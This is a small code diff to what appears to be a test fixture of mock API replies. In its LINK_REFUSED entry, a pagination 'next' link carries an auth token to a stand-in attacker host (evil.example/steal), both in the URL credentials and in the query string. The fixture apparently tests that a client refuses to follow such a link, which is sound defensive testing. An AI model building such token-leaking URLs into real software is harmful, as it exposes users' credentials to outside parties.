@@ -32,7 +32,7 @@ const ECHOES: Record<string, (token: string) => Reply> = {
   LINK_REFUSED: (token) => ({
     body: {
       data: [{ id: 1 }],
-      links: { next: `http://${token}:x@evil.example/steal?token=${token}&page=2` },
+      links: { next: `http://${token}:x@evil.example/steal?token=${token}&page=3` },
       meta: { current_page: 1, last_page: 2, total: 2 },
     },
   }),
